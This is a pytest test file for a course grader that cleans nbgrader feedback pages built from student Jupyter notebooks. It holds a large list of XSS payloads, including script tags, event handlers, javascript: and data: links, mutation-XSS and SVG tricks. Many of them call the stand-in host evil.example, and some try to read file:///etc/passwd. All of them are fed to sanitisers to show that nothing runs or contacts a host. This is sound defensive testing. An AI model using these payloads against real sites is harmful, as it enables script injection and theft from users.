"""Feedback that is safe to publish: hostile notebooks of every class, and what must not come out of them."""

import base64
import os
import re
import subprocess
import sys
import time
from collections import Counter
from html.parser import HTMLParser

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from traitlets.config import Config

from coursegrader import safe_html
from coursegrader.course import configure
from coursegrader.formulas import ELEMENTS
from coursegrader.reporting import feedback, markdown
from coursegrader.reporting.feedback import SafeFeedback, safe_markdown
from coursegrader.reporting.markdown import MAX_FORMULAS, NO_PICTURE, Places
from coursegrader.safe_html import POLICY, clean_piece, safe_page

EVIL = "http://evil.example/x"
RUN = "window.ran=1;document.title='ran'"
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script><image "
    f"href='{EVIL}'/></svg>"
)
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from a host": f"<script src='{EVIL}.js'></script>",
    "upper case": f"<SCRIPT>{RUN}</SCRIPT>",
    "handler": f'<img src=x onerror="{RUN}">',
    "handler without quotes": "<b onmouseover=window.ran=1 onclick=window.ran=1>b</b>",
    "slash instead of space": f'<img/src=x/onerror="{RUN}">',
    "svg": SVG,
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x></svg>',
    "javascript link": f'<a href="javascript:{RUN}">a</a>',
    "javascript link in disguise": f'<a href="java\nscript&colon;{RUN}">a</a>',
    "entities": "<a href='&#106;avascript:window.ran=1'>a</a>",
    "data link": f"<a href='data:text/html,<script>{RUN}</script>'>a</a>",
    "iframe": f"<iframe src='{EVIL}'></iframe>",
    "iframe srcdoc": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": f"<object data='{EVIL}'></object>",
    "embed": f"<embed src='{EVIL}'>",
    "applet": f"<applet code='{EVIL}'></applet>",
    "style import": f"<style>@import url({EVIL}.css); body{{background:url({EVIL})}}</style>",
    "style attribute": f"<p style=\"background:url('{EVIL}')\">p</p>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999'>10 / 10</div>",
    "link": f"<link rel=stylesheet href='{EVIL}.css'>",
    "prefetch": "<link rel='dns-prefetch' href='//evil.example'>",
    "base": "<base href='http://evil.example/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "picture": f"<img src='{EVIL}.png' srcset='{EVIL}-2.png 2x'>",
    "picture without a scheme": "<img src='//evil.example/x.png'>",
    "local picture": "<img src='file:///etc/passwd'><img src='../../secret.png'>",
    "svg picture": "<img src='data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode() + "'>",
    "lazy picture": f"<picture><source srcset='{EVIL}'><img src='{EVIL}' loading=lazy></picture>",
    "video": f"<video src='{EVIL}' poster='{EVIL}' autoplay></video>",
    "audio": f"<audio src='{EVIL}' autoplay onplay=\"{RUN}\"></audio>",
    "table": f"<table background='{EVIL}'><tr><td background='{EVIL}'>t</td></tr></table>",
    "form": (
        f"<form action='{EVIL}'><input type=image src='{EVIL}'><button formaction='{EVIL}'>b</button></form>"
    ),
    "ping": f"<a href='#x' ping='{EVIL}'>a</a>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "custom element": f'<x-evil onclick="{RUN}"></x-evil>',
    "mutation": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "mutation by svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment that ends twice": f"<!-- --!><img src=x onerror={RUN}> -->",
    "conditional": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "broken tag": f'<img src="a" <script>{RUN}</script>',
    "unclosed": f"<div><b><a href='#'><script>{RUN}",
    "page end": f"</main></div></body></html><script>{RUN}</script>",
    "null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "textarea": (
        f'<textarea><img src=x onerror={RUN}></textarea><img title="</textarea><script>{RUN}</script>">'
    ),
    "xmp": f'<xmp><p title="</xmp><script>{RUN}</script>"></xmp>',
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "policy": "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
    "svg use": f"<svg><use href='{EVIL}#x'/></svg>",
}
RICH = {
    "application/javascript": RUN,
    "text/html": MARKUP["handler"],
    "image/svg+xml": SVG,
    "text/latex": f"$x$<script>{RUN}</script>",
    "text/markdown": f"![x]({EVIL}.png) <script>{RUN}</script>",
    "application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0},
    "text/vnd.mermaid": f'graph TD; A-->B; click A "javascript:{RUN}"',
    "image/png": f'"><script>{RUN}</script>',
    "image/jpeg": f"x' onerror='{RUN}",
    "application/vnd.evil+json": {"a": RUN},
    "text/plain": f"<script>{RUN}</script>",
}
ALLOWED = ELEMENTS | {"html", "head", "meta", "link", "title", "style", "body", "main", "section"}


def hostile_notebook():
    """All of it in one notebook: as markdown, as outputs, in texts, in metadata."""
    cells = [new_markdown_cell(text) for text in MARKUP.values()]
    cells += [
        new_code_cell(
            f"show({number})",
            outputs=[
                new_output(
                    "display_data",
                    data={"text/html": text},
                    metadata={"text/html": {"isolated": True}} if number % 2 else {},
                )
            ],
        )
        for number, text in enumerate(MARKUP.values())
    ]
    cells += [
        new_code_cell("rich", outputs=[new_output("display_data", data={kind: data})])
        for kind, data in RICH.items()
    ]
    cells += [
        new_code_cell(
            f"'''</pre><script>{RUN}</script>'''",
            outputs=[
                new_output("stream", text=f"<script>{RUN}</script>\x1b[31m<img src=x onerror={RUN}>\x1b[0m"),
                new_output(
                    "error",
                    ename=f"<script>{RUN}</script>",
                    evalue="x",
                    traceback=[f"\x1b[1m<script>{RUN}</script>"],
                ),
            ],
        )
    ]
    cells += [
        new_markdown_cell(
            f"![x]({EVIL}.png) [a](javascript:{RUN}) [b]({EVIL}) <{EVIL}> [c][d]\n\n[d]: data:text/html,{RUN}"
        ),
        new_markdown_cell("$\\href{javascript:window.ran=1}{x}$ $$<script>window.ran=1</script>$$"),
        new_markdown_cell(
            "![x](attachment:a)",
            attachments={"a": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}},
        ),
        new_markdown_cell(
            "![x](attachment:b)", attachments={"b": {"text/html": f'"><script>{RUN}</script>'}}
        ),
        new_raw_cell(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html"}),
        new_code_cell(
            "counted",
            metadata={
                "tags": [f'"><script>{RUN}</script>'],
                "magics_language": f'"><script>{RUN}</script>',
                "alt": EVIL,
            },
        ),
        new_markdown_cell("The last words."),
    ]
    cells[0].metadata.nbgrader = {
        "grade": True,
        "solution": True,
        "grade_id": f'"><script>{RUN}</script>',
        "score": 1,
        "points": 2,
        "schema_version": 3,
        "comment": f"Well done <script>{RUN}</script>",
        "locked": False,
        "task": False,
    }
    notebook = new_notebook(
        cells=cells,
        metadata={
            "title": f"</title><script>{RUN}</script>",
            "language_info": {"name": f"<script>{RUN}</script>"},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": RUN}}},
        },
    )
    return notebook


def export(notebook, exporter=SafeFeedback, **nbgrader):
    """A notebook as nbgrader's feedback page: by our exporter in a course folder, else without settings."""
    about = {"notebook": "03-attention", "score": 1, "max_score": 2, "late_penalty": 0} | nbgrader
    config = Config()
    if exporter is SafeFeedback:
        configure(config)
    config = GenerateFeedback(config=config).config
    return exporter(config=config).from_notebook_node(
        notebook, {"nbgrader": about, "unique_key": "x", "metadata": {"name": "x"}}
    )[0]


class Reader(HTMLParser):
    """Collects what must not be there."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.tags = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        from coursegrader.safe_html import TAGS

        self.tags.append(tag)
        if tag not in TAGS | ALLOWED:
            self.found.append(tag)
        for name, value in attributes:
            if name.startswith("on") or name in (
                "style",
                "srcset",
                "srcdoc",
                "ping",
                "background",
                "action",
                "formaction",
                "poster",
                "data",
            ):
                self.found.append((tag, name))
            if name in ("href", "src") and not re.match(
                r"#|data:,$|data:image/(png|jpeg|gif);|http://localhost:8000/book/", value or ""
            ):
                self.found.append((tag, name, value))


@pytest.fixture(scope="module")
def page():
    return export(hostile_notebook())


def test_nothing_that_runs_or_asks_a_host_is_in_the_page(page):
    assert Reader(page).found == []
    assert POLICY in page and page.count("Content-Security-Policy") == page.count(POLICY) == 1
    assert "The last words." in page and "Well done" in page
    for host in ("cdnjs", "jsdelivr", "unpkg", "mathjax", "require.min.js"):
        assert host not in page.lower(), host


def test_the_reader_of_this_test_sees_what_plain_nbgrader_lets_through():
    from nbconvert.exporters import HTMLExporter

    found = Reader(export(hostile_notebook(), HTMLExporter)).found
    assert {"script", "iframe"} <= set(found) and ("img", "onerror") in found and len(found) > 50


def test_formgrader_shows_submissions_without_running_them():
    """formgrader's exporter is the plain one with its own template and scripts: no more than those."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    def shown(notebook, protected=True):
        config = Config()
        if protected:
            configure(config)
        config.HTMLExporter.template_name, config.HTMLExporter.extra_template_basedirs = (
            "formgrade",
            [handlers.template_path],
        )
        about = {
            "notebook": "n",
            "assignment": "n",
            "student": "s",
            "score": 1,
            "max_score": 2,
            "late_penalty": 0,
            "index": 0,
            "total": 1,
            "base_url": "/",
        }
        return Counter(
            Reader(
                HTMLExporter(config=config).from_notebook_node(notebook, about | {"nbgrader": about})[0]
            ).found
        )

    own = shown(
        new_notebook(
            cells=[new_markdown_cell("x", metadata=hostile_notebook().cells[0].metadata), new_code_cell("1")]
        )
    )
    notebook = hostile_notebook()
    notebook.cells[0].metadata = {}
    assert shown(notebook) - own == Counter()
    assert len(shown(notebook, protected=False) - own) > 20


@pytest.mark.parametrize("kind", MARKUP)
def test_each_piece_is_harmless_on_its_own(kind):
    for text in (
        clean_piece(MARKUP[kind]),
        safe_page(f"<html><body>{MARKUP[kind]}</body>", "t", "http://localhost:8000/"),
    ):
        assert Reader(text).found == []
        # parsing it once more brings nothing back
        assert clean_piece(clean_piece(MARKUP[kind])) == clean_piece(MARKUP[kind])


@pytest.mark.parametrize("kind", MARKUP)
def test_the_allowlist_holds_alone(kind):
    assert Reader(safe_html._allowed_only(MARKUP[kind], safe_html._student_attribute)).found == []


def test_no_formula_makes_a_link_that_runs():
    """formgrader's MathJax makes links of \\href, whatever they lead to."""
    for text in (
        r"$\href{javascript:alert(1)}{x}$",
        r"$\\\href{j}{x}$",
        r"\hr<zzz>ef{j}",
        r"\hr<!-- x -->ef{j}",
        "&#92;href{j}",
        "\\&#104;ref{j}",
        r"$\class{a}{\cssId{b}{\style{c}{d}}}$",
    ):
        assert not re.search(r"\\(href|class|cssId|style)\b", clean_piece(text))
    assert clean_piece(r"$\classical \sqrt{d_k}$") == r"$\classical \sqrt{d_k}$"
    output = safe_html.safe_output(
        new_output("display_data", data={"text/latex": r"$\href{javascript:alert(1)}{x}$"})
    )
    assert "\\href" not in output.data["text/latex"]


@pytest.mark.slow
def test_a_page_shows_so_much_of_a_notebook_and_every_verdict():
    many = [new_output("display_data", data={"text/html": "<" * 90_000}) for _ in range(400)]
    notebook = new_notebook(
        cells=[
            new_code_cell("x", outputs=many),
            *(new_markdown_cell("word " * 5000) for _ in range(100)),
            new_code_cell(
                "check", outputs=[new_output("error", ename="e", evalue="v", traceback=["✗ The verdict."])]
            ),
        ]
    )
    safe = safe_html.safe_notebook(notebook)
    assert (
        len(str(safe)) < 8_000_000
        and "The verdict." in str(safe.cells[-1].outputs)
        and "More output" in str(safe.cells[0].outputs)
    )


def test_a_piece_neither_leaves_its_place_nor_looks_like_the_page():
    text = clean_piece(
        "</div></div><div class='panel panel-primary'><span class='pull-right'>Score: 4 / 4</span><div id=a>"
    )
    assert "panel" not in text and "pull-right" not in text and text.count("<div") == text.count("</div>")
    forged = "</div></div></div>\n\n<div class='panel panel-primary'><p class='forged'>Score: 4 / 4</p>"
    page = export(
        new_notebook(
            cells=[
                new_markdown_cell(forged),
                new_code_cell("1", outputs=[new_output("display_data", data={"text/html": forged})]),
            ]
        )
    )
    assert (
        page.count("Score: 4 / 4") == 2
        and "forged" not in page
        and 'class="panel' not in page.partition("</style>")[2]
    )


def test_cleaning_glues_no_words_together_and_keeps_the_lines_of_code():
    assert clean_piece("<section>a</section><section>b</section>").split() == ["a", "b"]
    assert clean_piece("<pre>\n\n  a\n</pre>") == "<pre>\n\n  a\n</pre>"


def test_what_students_need_is_still_shown():
    picture = base64.b64encode(b"\x89PNG").decode()
    table = (
        "<style scoped>td{color:red}</style><table border='1' class='dataframe'><tr><td>3.5</td></tr></table>"
    )
    notebook = new_notebook(
        cells=[
            new_markdown_cell(
                "# Why\nIt is **bold**, `code` and $\\sqrt{d_k}$, and a < b.\n\n```python\nx = "
                "1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
            ),
            new_code_cell(
                "def f(x):\n    return x < 3",
                outputs=[
                    new_output("display_data", data={"image/png": picture}),
                    new_output("display_data", data={"text/html": table, "text/plain": "plain table"}),
                    new_output(
                        "display_data",
                        data={
                            "text/html": "<div id='w'></div><script>1</script>",
                            "text/plain": "Widget(value=3)",
                        },
                    ),
                    new_output("stream", text="\x1b[31mred\x1b[0m & <b>"),
                    new_output(
                        "error",
                        ename="NotYetRight",
                        evalue="e",
                        traceback=["✗ Divide by the root. See book/03-attention.html#scaling"],
                    ),
                ],
            ),
        ]
    )
    page = export(notebook)
    for words in (
        "<strong>bold</strong>",
        "<msqrt>",
        "a &lt; b",
        f"data:image/png;base64,{picture}",
        "<td>3.5</td>",
        "Widget(value=3)",
        "red</span> &amp; &lt;b&gt;",
        ('<a href="http://localhost:8000/book/03-attention.html#scaling">book/03-attention.html#scaling</a>'),
        "✗ Divide by the root.",
    ):
        assert words in page, words
    assert "color:red" not in page and 'class="k"' in page and Reader(page).found == []


def test_the_book_may_live_elsewhere_and_only_its_pages_are_linked():
    body = (
        "<body><p>See book/03-attention.html#a</p><img alt='See book/x.html#y'><a "
        "href='https://book.example/course/other'>x</a></body>"
    )
    page = safe_page(body, "t", "https://book.example/course/")
    assert '<a href="https://book.example/course/book/03-attention.html#a">' in page
    assert page.count("https://") == 1
    inside = "<a href='#x'>1<table><tr><td><a href='#y'>2</a> book/x.html</td></tr></table></a>book/y.html"
    assert safe_page(inside, "t", "https://book.example/").count("https://") == 1


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 20_000,
        "<" * 100_000,
        "&" * 100_000,
        "<b " + "a='1' " * 20_000 + ">",
        "x" * 1_000_000,
        "<table><tr><td>" * 3_000,
        "[a](b" * 6_000,
        "<p>" + "".join(f"<b lang={i}>" for i in range(250)) + "</p>" + "<p>x</p>" * 3_000,
        "<p>" + "<b><i><u>" * 3 + "<marquee>" + "<p>x</p>" * 12_000 + "</marquee>",
    ],
    ids=["elements", "brackets", "ampersands", "attributes", "letters", "tables", "links", "again", "twice"],
)
def test_floods_and_deep_nesting_end(text):
    cells = [
        new_code_cell("1", outputs=[new_output("display_data", data={"text/html": text})]),
        new_markdown_cell(text),
        new_markdown_cell("The end."),
    ]
    page = export(new_notebook(cells=cells))
    assert "The end." in page and len(page) < 3_000_000


@pytest.mark.parametrize(
    "cell",
    [
        new_markdown_cell("\\\\[" * 10_000),
        new_code_cell("." * 25_000),
        new_code_cell("1", outputs=[new_output("display_data", data={"text/plain": "\\" * 30_000})]),
    ],
    ids=["openings", "dots", "backslashes"],
)
def test_what_takes_long_to_set_stands_as_it_was_written(cell, monkeypatch):
    monkeypatch.setattr(markdown, "MAX_SECONDS", 0.2)
    end = new_markdown_cell("# The end.")
    export(new_notebook(cells=[end]))  # what the first page of a process takes
    begun = time.process_time()
    export(new_notebook(cells=[end]))
    usual = time.process_time() - begun
    page = export(new_notebook(cells=[cell, end]))
    assert time.process_time() - begun < 3 * usual + 1.5
    assert "<h1>The end.</h1>" in page and any(sign * 200 in page for sign in ("\\", "[\\\\", "."))


def test_a_page_has_so_much_time_in_all(monkeypatch):
    monkeypatch.setattr(feedback, "MAX_SECONDS", 0.0)
    page = export(new_notebook(cells=[new_markdown_cell("# <b>1</b>"), new_code_cell("x = 1")]))
    assert "<pre># &lt;b&gt;1&lt;/b&gt;</pre>" in page and "<pre>x = 1</pre>" in page


def test_a_page_has_so_many_formulas_and_counts_them_once():
    places, begun = Places(), time.process_time()
    text = "".join(places.formula(f"a_{number}", "inline") for number in range(100_000))
    assert time.process_time() - begun < 1 and text.count("<var") < MAX_FORMULAS < text.count("<code>")
    assert places.fill('<var class="formula">1</var>').startswith("<math")
    assert places.fill('<var class="formula">1</var>') == ""


PNG = base64.b64encode(b"\x89PNG" * 60_000).decode()  # as large as a picture of a screen is
PASTED = 'My words. ![a <b>"picture"](attachment:my%20own.png)'


@pytest.mark.parametrize(
    "text, pasted, shown",
    [
        (PASTED, {"my own.png": {"image/png": PNG}}, 1),
        (PASTED, {"my%20own.png": {"image/png": PNG}}, 1),
        (PASTED * 2, {"my own.png": {"image/png": PNG}}, 1),  # else a flood of them is cheap
        (PASTED, {}, 0),
        (PASTED, {"my own.png": {}}, 0),
        (PASTED, {"my own.png": {"text/html": "x"}}, 0),
        (PASTED, {"my own.png": {"image/png": '"><script>' + RUN}}, 0),
    ],
    ids=["pasted", "quoted", "twice", "missing", "empty", "other", "hostile"],
)
def test_a_pasted_picture_is_shown_and_a_missing_one_stops_no_page(text, pasted, shown):
    cell = new_markdown_cell(text, attachments=pasted)
    outputs = [new_output("display_data", data={kind: PASTED}) for kind in ("text/markdown", "text/latex")]
    page = export(new_notebook(cells=[cell, new_code_cell("1", outputs=outputs)]))
    pieces = [markdown.markdown_piece(text, pasted), safe_markdown({"cell": cell}, text)]
    for made, others in ((page, 2), (pieces[0], 0), (pieces[1], 0)):
        assert made.count(f'src="data:image/png;base64,{PNG}"') == shown and "My words." in made
        assert made.count(NO_PICTURE) == text.count("![") - shown + others
        assert Reader(made).found == []


def test_nothing_is_read_from_the_disk(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.png").write_bytes(b"hidden probe")
    page = export(new_notebook(cells=[new_markdown_cell("![x](secret.png) ![y](/etc/passwd)")]))
    assert base64.b64encode(b"hidden probe").decode() not in page and "root:" not in page


@pytest.mark.browser
@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without its policy"])
def test_a_browser_asks_nobody_runs_nothing_and_says_nothing(browser, page, tmp_path, policy):
    """Without its policy, so that the cleaning alone is seen to hold."""
    path = tmp_path / "feedback.html"
    path.write_text(page if policy else re.sub(r"<meta http-equiv[^>]*>", "", page), encoding="utf-8")
    asked, said = [], []
    with browser.new_context() as context:
        tab = context.new_page()
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("console", lambda message: said.append(message.text))
        tab.on("pageerror", lambda error: said.append(str(error)))
        tab.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        tab.goto(path.as_uri())
        tab.evaluate("""() => { for (const element of document.querySelectorAll('*'))
            for (const kind of ['click', 'mouseover', 'focus', 'error', 'load'])
                if (!element.closest('a[href^=http]')) element.dispatchEvent(new Event(kind)); }""")
        tab.wait_for_timeout(300)
        assert [url for url in asked if url != path.as_uri() and not url.startswith("data:")] == []
        assert said == []
        assert tab.evaluate("window.ran") is None and tab.title() == "03-attention" and len(tab.frames) == 1
        assert "The last words." in tab.inner_text("main")


@pytest.mark.slow
@pytest.mark.xdist_group("class")
def test_plain_nbgrader_makes_the_safe_page(tmp_path):
    """Release, autograde, feedback by nbgrader's commands; the student's code prints the hostile outputs."""
    name, student = "00-plain", "eve"
    source = tmp_path / "solutions" / name / f"{name}.ipynb"
    source.parent.mkdir(parents=True)
    meta = {"schema_version": 3, "locked": False, "task": False}
    answer = new_code_cell(
        "### BEGIN SOLUTION\nx = 1\n### END SOLUTION",
        id="a",
        metadata={"nbgrader": meta | {"grade_id": "a", "grade": False, "solution": True}},
    )
    test = new_code_cell(
        "assert x == 1",
        id="t",
        metadata={
            "nbgrader": meta
            | {"grade_id": "t", "grade": True, "solution": False, "locked": True, "points": 2}
        },
    )
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    nbformat.write(new_notebook(cells=[answer, test], metadata=kernel), source)
    (tmp_path / "nbgrader_config.py").write_text(
        "from coursegrader.course import configure\nc = get_config()\nconfigure(c)\n"
    )
    environment = os.environ | {"PATH": f"{os.path.dirname(sys.executable)}:{os.environ['PATH']}"}

    def nbgrader(*command):
        done = subprocess.run(
            [sys.executable, "-m", "nbgrader", *command],
            cwd=tmp_path,
            env=environment,
            capture_output=True,
            text=True,
            timeout=900,
        )
        assert done.returncode == 0, done.stderr

    nbgrader("generate_assignment", name)
    sent = tmp_path / "submitted" / student / name / f"{name}.ipynb"
    sent.parent.mkdir(parents=True)
    notebook = nbformat.read(tmp_path / "notebooks" / name / f"{name}.ipynb", as_version=4)
    notebook.cells[0].source = (
        "x = 1\nfrom IPython.display import display\nfor data in "
        f"{list(MARKUP.values())!r}:\n    display({{'text/html': data}}, "
        f"raw=True)\nfor kind, data in {RICH!r}.items():\n    display({{kind: "
        f"data}}, raw=True)"
    )
    notebook.cells.insert(0, new_markdown_cell("\n\n".join(MARKUP.values())))
    nbformat.write(notebook, sent)
    (sent.parent / "torch.py").write_text("raise SystemExit")
    nbgrader("autograde", name)
    # the check before grading is nbgrader's hook
    assert not list((tmp_path / "autograded").rglob("torch.py"))
    nbgrader("generate_feedback", name)
    page = (tmp_path / "feedback" / student / name / f"{name}.html").read_text(encoding="utf-8")
    assert "torch.py was set aside" in page
    assert POLICY in page and "00-plain: 2 of 2 points" in page and Reader(page).found == []
